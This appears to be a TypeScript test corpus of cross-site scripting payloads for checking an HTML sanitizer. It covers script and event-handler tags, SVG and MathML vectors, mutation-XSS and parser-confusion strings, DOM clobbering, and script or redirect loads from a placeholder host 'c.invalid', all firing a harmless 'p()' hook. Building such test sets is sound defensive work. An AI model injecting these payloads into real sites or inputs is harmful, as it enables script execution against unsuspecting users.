/** Runs where a payload runs; both are looked for by the browser that opens the pages. */
export const HOOK = "p()";
/** Every element that a payload makes carries this attribute or one that begins with `on`. */
export const PLANTED = "zz";
/** Whatever is asked of this host was asked by a payload. */
export const ELSEWHERE = "c.invalid";

const run = HOOK;

/** Elements that run a script by themselves, each as browsers know it. */
export const running = [
  `<script ${PLANTED}>${run}</script>`,
  `<ScRiPt ${PLANTED}>${run}</sCrIpT >`,
  `<script/${PLANTED}>${run}</script>`,
  `<script ${PLANTED} type=module>${run}</script>`,
  `<script ${PLANTED} src=//${ELSEWHERE}/a></script>`,
  `<script ${PLANTED} src=data:,${run}></script>`,
  `<script ${PLANTED} type=speculationrules>{}</script>`,
  `<img ${PLANTED} src=x onerror=${run}>`,
  `<img src="x" onerror="${run}">`,
  `<img src='x' onerror='${run}'>`,
  `<img/src=x/onerror=${run}>`,
  `<img\nsrc=x\nonerror=${run}>`,
  `<IMG SRC=x ONERROR=${run}>`,
  `<img src=x onerror=&#112;()>`,
  `<img src=x onerror=&#x70;&lpar;&rpar;>`,
  `<img src=x onerror=\\u0070()>`,
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror=confirm`1`>",
  `<img src=//${ELSEWHERE}/b ${PLANTED}>`,
  `<img srcset=//${ELSEWHERE}/c ${PLANTED}>`,
  `<image src=x onerror=${run}>`,
  `<body ${PLANTED} onload=${run}>`,
  `<body onpageshow=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<video src=x onerror=${run}>`,
  `<audio src=x onerror=${run}>`,
  `<video poster=//${ELSEWHERE}/d ${PLANTED}>`,
  `<track ${PLANTED} src=x onerror=${run}>`,
  `<object ${PLANTED} data=javascript:${run}></object>`,
  `<object data=//${ELSEWHERE}/e ${PLANTED}></object>`,
  `<embed ${PLANTED} src=javascript:${run}>`,
  `<iframe ${PLANTED} src=javascript:parent.${run}>`,
  `<iframe ${PLANTED} srcdoc="<script>parent.${run}</script>">`,
  `<iframe onload=${run}>`,
  `<frameset onload=${run}>`,
  `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<textarea autofocus onfocus=${run}>`,
  `<button autofocus onfocus=${run}>`,
  `<x tabindex=1 autofocus onfocus=${run}>`,
  `<b contenteditable autofocus onfocus=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<dialog open onclose=${run}>`,
  `<b onmouseover=${run} style=position:fixed;inset:0>`,
  `<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=${run}>`,
  `<b style=transition:1s onanimationend=${run} ${PLANTED}>`,
  `<link ${PLANTED} rel=stylesheet href=//${ELSEWHERE}/f>`,
  `<link ${PLANTED} rel=preload as=script href=//${ELSEWHERE}/g>`,
  `<link rel=stylesheet href=x onerror=${run}>`,
  `<meta ${PLANTED} http-equiv=refresh content=0;url=//${ELSEWHERE}>`,
  `<meta ${PLANTED} http-equiv=set-cookie content=a=b>`,
  `<base ${PLANTED} href=//${ELSEWHERE}/>`,
  `<form ${PLANTED} action=//${ELSEWHERE}><button>`,
  `<button ${PLANTED} formaction=javascript:${run}>`,
  `<isindex ${PLANTED} action=javascript:${run}>`,
  `<style ${PLANTED}>@import '//${ELSEWHERE}/h';</style>`,
  `<b ${PLANTED} style=background:url(//${ELSEWHERE}/i)>`,
  `<template ${PLANTED}><script>${run}</script></template>`,
  `<div ${PLANTED}><template shadowrootmode=open><script>${run}</script></template></div>`,
  `<slot ${PLANTED} name=x onslotchange=${run}>`,
  `<a ${PLANTED} ping=//${ELSEWHERE}/j href=#>a</a>`,
];

/** Drawings and formulas, whose elements are read by other rules. */
export const foreign = [
  `<svg onload=${run}>`,
  `<svg/onload=${run}//`,
  `<svg><script ${PLANTED}>${run}</script></svg>`,
  `<svg><script ${PLANTED} href=data:,${run} />`,
  `<svg><script ${PLANTED} xlink:href=//${ELSEWHERE}/k />`,
  `<svg><script>&#112;()</script ${PLANTED}>`,
  `<svg><a ${PLANTED} xlink:href=javascript:${run}><text>a</text></a>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set onbegin=${run} attributeName=x>`,
  `<svg><a ${PLANTED}><animate attributeName=href values=javascript:${run} />`,
  `<svg><use ${PLANTED} href=//${ELSEWHERE}/l#x>`,
  `<svg><image ${PLANTED} href=//${ELSEWHERE}/m>`,
  `<svg><foreignObject><img src=x onerror=${run}>`,
  `<svg><style><img src=x onerror=${run}></style>`,
  `<svg><title><script ${PLANTED}>${run}</script></title>`,
  `<svg><desc><img src=x onerror=${run}></desc>`,
  `<svg><handler ${PLANTED} type=text/javascript>${run}`,
  `<svg><discard onbegin=${run}>`,
  `<svg><feImage ${PLANTED} href=//${ELSEWHERE}/n>`,
  `<math><mtext><img src=x onerror=${run}></mtext></math>`,
  `<math href=javascript:${run} ${PLANTED}>a</math>`,
  `<math><maction ${PLANTED} actiontype=statusline xlink:href=javascript:${run}>a`,
  `<math><mi xlink:href=data:x,<script>${run}</script> ${PLANTED}>`,
  `<math><annotation-xml encoding=text/html><script ${PLANTED}>${run}</script>`,
  `<math><style><img src=x onerror=${run}></style></math>`,
  `<math><mglyph><style><!--</style><img src=x onerror=${run}>`,
];

/** Harmless as written and something else once read, written out and read again. */
export const mutating = [
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;<img src=x onerror=${run}>">`,
  `<select><style></select><img src=x onerror=${run}></style>`,
  `<table><td><b><table><img src=x onerror=${run}>`,
  `<a href='" onmouseover=${run} ${PLANTED}="'>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<!--!><img src=x onerror=${run}>--!>`,
  `<![CDATA[><img src=x onerror=${run}>]]>`,
  `<?x ><img src=x onerror=${run}>?>`,
  `<!x><img src=x onerror=${run}>`,
  `</x ><img src=x onerror=${run}>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<listing>\n<img src=x onerror=${run}></listing>`,
  `<plaintext ${PLANTED}>`,
  `<textarea><img title="</textarea><img src=x onerror=${run}>">`,
  `<title><img title="</title><img src=x onerror=${run}>">`,
  `<iframe><p title="</iframe><img src=x onerror=${run}>">`,
  `<<script ${PLANTED}>${run}//<</script>`,
  `<scr<script>ipt ${PLANTED}>${run}</scr</script>ipt>`,
  `<img """><script ${PLANTED}>${run}</script>">`,
  `<img src=x onerror="${run}" <`,
  `<b id=p><b name=location ${PLANTED}>`,
  `<a id=__next_f ${PLANTED}><form name=body>`,
];

const events =
  "copy cut paste click dblclick mousedown mouseup mousemove mouseenter mouseleave mouseout mouseover wheel keydown keyup " +
  "keypress input change submit reset select scroll scrollend resize drag dragstart dragend dragenter dragleave dragover " +
  "drop toggle beforetoggle pointerdown pointerup pointermove pointerenter pointerleave pointerover pointerout cancel " +
  "pointercancel gotpointercapture touchstart touchend touchmove touchcancel animationstart animationiteration close " +
  "transitionrun transitionstart transitionend transitioncancel focusin focusout blur contextmenu auxclick beforeinput " +
  "compositionstart compositionend search invalid formdata slotchange selectstart selectionchange beforematch";

/** Short enough for the shortest field: each waits for something that a reader does. */
export const waiting = events.split(" ").map((event) => `<b on${event}=${run}>`);
